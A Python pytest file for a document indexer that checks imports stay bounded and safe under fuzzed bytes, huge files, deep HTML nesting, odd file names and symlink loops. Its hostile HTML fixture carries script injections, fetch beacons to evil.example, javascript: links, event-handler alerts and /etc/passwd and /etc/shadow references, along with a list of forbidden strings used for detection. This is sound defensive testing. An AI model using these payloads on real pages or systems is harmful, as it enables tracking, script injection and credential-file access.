"""Issue 8.5: hostile and extreme input imports correctly or is skipped with a reason,
within bounded time and memory; nothing is fetched and no markup survives."""

from __future__ import annotations

import os
import random
import resource
import socket
import urllib.request
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from indexer import ingest
from indexer.library import Library
from indexer.model import Document, Skip

from .bounded import run_bounded
from .conftest import SOAK, cli_json, run_cli, vocabulary, write_articles

MB = 1024 * 1024
FUZZ = settings(
    max_examples=3000 if SOAK else 150, deadline=None, derandomize=not SOAK,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)


def _peak_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def _assert_outcome(result, path: str = "") -> None:
    """A Document with usable text, or a Skip with a reason; nothing else."""
    if isinstance(result, Skip):
        assert result.reason.strip(), f"skip without a reason: {path}"
        return
    assert isinstance(result, Document), type(result)
    assert result.text.strip() and result.title.strip()
    result.text.encode("utf-8")  # no lone surrogates: the store and the GUI need valid text
    result.title.encode("utf-8")


def _words(n: int, seed: int) -> list[str]:
    rng = random.Random(seed)
    vocab = vocabulary()
    return rng.choices(vocab, k=n)


# -- random bytes and broken encodings ------------------------------------------------------
@FUZZ
@given(data=st.binary(max_size=4096), suffix=st.sampled_from([".txt", ".md", ".html"]))
def test_random_bytes_never_raise(data, suffix):
    _assert_outcome(ingest.prepare_bytes(data, "/fuzz/random" + suffix))


@FUZZ
@given(
    text=st.text(min_size=1, max_size=600),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"]),
    cut=st.floats(min_value=0.0, max_value=1.0),
    suffix=st.sampled_from([".txt", ".md", ".html"]),
)
def test_truncated_utf8_and_utf16_never_raise(text, encoding, cut, suffix):
    data = text.encode(encoding, "surrogatepass")
    _assert_outcome(ingest.prepare_bytes(data[: int(len(data) * cut)], "/fuzz/cut" + suffix))


def test_random_files_through_library_add(tmp_path):
    """Random and truncated files end as added or skipped-with-reason, and the library stays usable."""
    rng = random.Random(99)
    folder = tmp_path / "in"
    folder.mkdir()
    n = 60 if SOAK else 20
    for i in range(n):
        if i % 2:
            blob = rng.randbytes(rng.randint(1, 5000))
        else:
            text = " ".join(_words(rng.randint(5, 300), i)) + " Ünïcödé ✓ 日本語 \u0000 \ud7ff"
            blob = text.encode(rng.choice(["utf-8", "utf-16", "utf-16-le"]))
            blob = blob[: rng.randint(1, len(blob))]
        (folder / f"f{i:03d}{rng.choice(['.txt', '.md', '.html'])}").write_bytes(blob)
    before = _peak_mb()
    with Library(tmp_path / "lib") as lib:
        report = lib.add([folder])
        assert len(report.added) + len(report.skipped) + len(report.duplicates) == n
        assert all(s.reason.strip() for s in report.skipped)
        for added in report.added:
            lib.article(added.id).text.encode("utf-8")
        assert lib.index_problem == ""
    assert _peak_mb() - before < 500
    assert run_cli(tmp_path / "lib", "list").returncode == 0


# -- hostile HTML -----------------------------------------------------------------------------
HOSTILE_HTML = """<!DOCTYPE html>
<html><head><title>Harbour talks resume</title>
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<link rel="stylesheet" href="http://evil.example/style.css">
<script src="http://evil.example/tracker.js"></script>
<script>document.write('scriptmarker'); fetch('http://evil.example/beacon');</script>
<style>body { background: url(http://evil.example/bg.png); } .stylemarker {}</style>
</head><body onload="alert('onloadmarker')">
<article>
<h1>Harbour talks resume</h1>
<p>Negotiators met on Tuesday at the harbour office to discuss the grain corridor and the inspection regime
for ships leaving the port, according to officials who attended the meeting. paragraphmarkerone</p>
<iframe src="http://evil.example/frame.html">iframemarker</iframe>
<img src="http://evil.example/pixel.png" onerror="alert('onerrormarker')" alt="">
<img src="file:///etc/passwd">
<p>The delegations agreed to meet again next week, and a <a href="javascript:alert('jslinkmarker')">statement</a>
was published on the <a href="file:///etc/shadow">ministry</a> website later that evening, officials said.
paragraphmarkertwo</p>
<object data="http://evil.example/object.swf">objectmarker</object>
<svg onload="alert('svgmarker')"><image href="http://evil.example/svg.png"/></svg>
<form action="http://evil.example/post"><input name="q" value="formmarker"></form>
<p>Analysts said the resumption of talks was a modest but real step toward reopening the corridor for trade
through the winter months, if both sides keep to the inspection schedule. paragraphmarkerthree</p>
</article></body></html>
"""

FORBIDDEN = (
    "<", "javascript:", "alert(", "evil.example", "file://", "onerror", "onload", "scriptmarker", "stylemarker",
    "document.write", "fetch(", "/etc/passwd", "/etc/shadow",
)


@pytest.mark.timeout(30)
def test_imported_file_replaced_by_a_fifo_is_skipped_not_waited_on(tmp_path):
    """Re-importing checks whether the file changed; a pipe in its place must not hang it (issue 12, item 3)."""
    article = tmp_path / "in" / "harbour.txt"
    article.parent.mkdir()
    article.write_text("Harbour talks resume\n\n" + " ".join(_words(60, 5)) + ".\n", encoding="utf-8")
    with Library(tmp_path / "lib") as lib:
        assert len(lib.add([article]).added) == 1
        article.unlink()
        os.mkfifo(article)
        report = lib.add([article])
    assert [s.reason for s in report.skipped] == ["not a regular file (a pipe, socket or device); copy it to a file first"]


@pytest.fixture
def no_network(monkeypatch):
    """Fail loudly if anything tries to connect or fetch."""
    attempts: list[str] = []

    def refuse(*args, **kwargs):
        attempts.append(repr(args[:2]))
        raise AssertionError(f"network access attempted: {args[:2]!r}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(urllib.request, "urlopen", refuse)
    return attempts


@pytest.mark.timeout(120)
def test_hostile_html_imports_as_plain_text_and_fetches_nothing(tmp_path, no_network):
    page = tmp_path / "hostile.html"
    page.write_text(HOSTILE_HTML, encoding="utf-8")
    doc = ingest.prepare(page)  # in this process, where the network is refused
    assert isinstance(doc, Document), doc
    for bad in FORBIDDEN:
        assert bad not in doc.text and bad not in doc.title, f"{bad!r} survived ingest.prepare"
    with Library(tmp_path / "lib") as lib:
        report = lib.add([page])
        assert len(report.added) == 1, report.skipped
        article = lib.article(report.added[0].id)
    assert not no_network
    for marker in ("paragraphmarkerone", "paragraphmarkertwo", "paragraphmarkerthree"):
        assert marker in article.text
    for bad in FORBIDDEN:
        assert bad not in article.text, f"{bad!r} survived into the article text"
        assert bad not in article.title


# -- extreme sizes, run in a child with 2 GB of address space -----------------------------------
def _nested_html(path: Path, depth: int) -> None:
    path.write_text(
        "<html><head><title>Deep page</title></head><body>" + "<div>" * depth
        + "<p>The deep text survives the nesting of this page, every word of it.</p>" + "</div>" * depth
        + "</body></html>",
        encoding="utf-8",
    )


@pytest.mark.timeout(120)
def test_html_nested_100000_levels_is_bounded(tmp_path):
    page = tmp_path / "deep.html"
    _nested_html(page, 100_000)
    out = run_bounded("prepare", [page], timeout=90)
    result = out["results"][0]
    assert result.get("skip", "x").strip()
    assert "unexpected" not in result.get("skip", "")
    assert out["peak_mb"] < 1500


@pytest.mark.timeout(120)
def test_html_nested_100000_levels_keeps_text_or_says_why(tmp_path):
    page = tmp_path / "deep.html"
    _nested_html(page, 100_000)
    result = run_bounded("prepare", [page], timeout=90)["results"][0]
    if "skip" in result:
        assert "nest" in result["skip"].lower() or "deep" in result["skip"].lower(), result["skip"]
    else:
        assert "deep text survives" in result["text"]


@pytest.mark.timeout(120)
def test_10mb_attribute_keeps_the_end_of_the_article_searchable(tmp_path):
    """libxml2 drops everything after an attribute over 10 MB; the article must still import whole."""
    page = tmp_path / "state.html"
    paragraphs = [f"<p>{' '.join(_words(40, seed))}.</p>" for seed in range(6)]
    page.write_text(
        "<html><head><title>Harbour state page</title></head><body><article>" + "".join(paragraphs[:3])
        + f"<div data-state='{'x' * (10 * 1024 * 1024 + 10)}'></div>" + "".join(paragraphs[3:])
        + "<p>The harbour council closes the session with tailmarkerword.</p></article></body></html>",
        encoding="utf-8",
    )
    out = run_bounded("add", [page], library=tmp_path / "lib", query="tailmarkerword", timeout=110)
    result = out["results"][0]
    assert "doc" in result, result
    assert result["hits"] == 1, "the text after the giant attribute was lost"


def _long_line(path: Path, size: int) -> None:
    words = " ".join(_words(size // 6 + 10, 3))
    path.write_text("A very long line\n\n" + words[:size], encoding="utf-8")


@pytest.mark.timeout(120)
def test_10mb_line_without_newline_prepares_in_bounded_time(tmp_path):
    path = tmp_path / "line.txt"
    _long_line(path, 10 * MB)
    out = run_bounded("prepare", [path], timeout=90)
    result = out["results"][0]
    assert "doc" in result, result
    assert result["chars"] >= 10 * MB - 100
    assert out["seconds"] < 60 and out["peak_mb"] < 1500


@pytest.mark.soak
@pytest.mark.timeout(900)
def test_10mb_line_without_newline_imports(tmp_path):
    path = tmp_path / "line.txt"
    _long_line(path, 10 * MB)
    out = run_bounded("add", [path], library=tmp_path / "lib", timeout=850)
    assert "doc" in out["results"][0], out["results"]
    assert out["peak_mb"] < 1900


def _many_words(path: Path, count: int) -> str:
    words = _words(count, 4)
    paragraphs = [" ".join(words[i : i + 120]) + "." for i in range(0, count, 120)]
    marker = "endmarkerword"
    path.write_text("Many words\n\n" + "\n\n".join(paragraphs) + f"\n\nThe last word is {marker}.\n", encoding="utf-8")
    return marker


@pytest.mark.timeout(180)
def test_200k_word_article_imports(tmp_path):
    path = tmp_path / "words.txt"
    marker = _many_words(path, 200_000)
    out = run_bounded("add", [path], library=tmp_path / "lib", query=marker, timeout=170)
    result = out["results"][0]
    assert "doc" in result, result
    assert result["hits"] == 1, "the end of a long article is not searchable"
    assert out["peak_mb"] < 1500


@pytest.mark.soak
@pytest.mark.timeout(1200)
def test_1_million_word_article_imports(tmp_path):
    path = tmp_path / "words.txt"
    marker = _many_words(path, 1_000_000)
    out = run_bounded("add", [path], library=tmp_path / "lib", query=marker, timeout=1150)
    result = out["results"][0]
    assert "doc" in result, result
    assert result["hits"] == 1
    assert out["peak_mb"] < 1900


def test_100mb_file_skipped_by_default_size_limit(tmp_path):
    path = tmp_path / "huge.txt"
    with open(path, "wb") as fh:
        fh.truncate(100 * MB)  # sparse: the size check must come before any read
    skip = ingest.prepare(path)
    assert isinstance(skip, Skip) and "--max-size" in skip.reason
    with Library(tmp_path / "lib") as lib:
        report = lib.add([path])
    assert not report.added and "--max-size" in report.skipped[0].reason
    proc = run_cli(tmp_path / "lib", "add", str(path), "--json")
    assert proc.returncode == 0 and "--max-size" in proc.stdout


@pytest.mark.soak
@pytest.mark.timeout(2400)
def test_100mb_file_with_raised_limit_is_bounded(tmp_path):
    path = tmp_path / "huge.txt"
    rng = random.Random(12)
    vocab = vocabulary()
    with open(path, "w", encoding="utf-8") as fh:
        fh.write("A hundred megabytes\n\n")
        while fh.tell() < 100 * MB:
            fh.write(" ".join(rng.choices(vocab, k=rng.randint(40, 120))) + ".\n\n")
    out = run_bounded("add", [path], max_size=200 * MB, library=tmp_path / "lib", timeout=2300)
    result = out["results"][0]
    assert "doc" in result or (result["skip"].strip() and "unexpected" not in result["skip"]), result
    assert "MemoryError" not in result.get("skip", ""), result
    assert out["peak_mb"] < 1900


# -- hostile file names and folder shapes -----------------------------------------------------
def _import_names(tmp_path, names: list[bytes]) -> None:
    """Files with these raw names import (or are skipped with a reason); the CLI keeps working."""
    folder = tmp_path / "names"
    folder.mkdir()
    for n, name in enumerate(names):
        body = f"Name test {n}\n\n" + " ".join(_words(80, 100 + n)) + f". namemarker{n}.\n"
        with open(os.path.join(os.fsencode(folder), name), "w", encoding="utf-8") as fh:
            fh.write(body)
    with Library(tmp_path / "lib") as lib:
        report = lib.add([folder])
        assert len(report.added) == len(names), f"hostile names were not imported: {report.skipped}"
        for added in report.added:
            added.path.encode("utf-8")
            lib.article(added.id)
        for n in range(len(names)):
            assert len(lib.search(f"namemarker{n}").hits) == 1
    assert len(cli_json(tmp_path / "lib", "list")) == len(names)
    assert cli_json(tmp_path / "lib", "log") is not None
    proc = run_cli(tmp_path / "lib", "add", str(folder))
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr


def test_names_with_newlines_and_control_characters(tmp_path):
    _import_names(tmp_path, [b"new\nline.txt", b"tab\tand \x1b[31mescape.md", "naïve ünïcode.txt".encode()])


def test_names_with_non_utf8_bytes(tmp_path):
    _import_names(tmp_path, [b"bad\xff\xfebytes.txt", b"latin1-caf\xe9.txt", b"plain.txt"])


@pytest.mark.timeout(60)
def test_symlink_loops_in_an_imported_folder(tmp_path):
    folder = tmp_path / "loops"
    articles = write_articles(folder / "real", 5, seed=41)
    os.symlink(folder, folder / "real" / "up")  # a directory loop
    os.symlink(folder / "real", folder / "again")  # the same folder twice
    os.symlink("self.txt", folder / "self.txt")  # a link to itself
    os.symlink(folder / "b.md", folder / "a.md")  # two links to each other
    os.symlink(folder / "a.md", folder / "b.md")
    with Library(tmp_path / "lib") as lib:
        report = lib.add([folder])
        assert lib.count() == len(articles)
        for art in articles:
            assert len(lib.search(art.marker).hits) == 1
    assert all(s.reason.strip() for s in report.skipped)
    assert len(report.added) == len(articles)
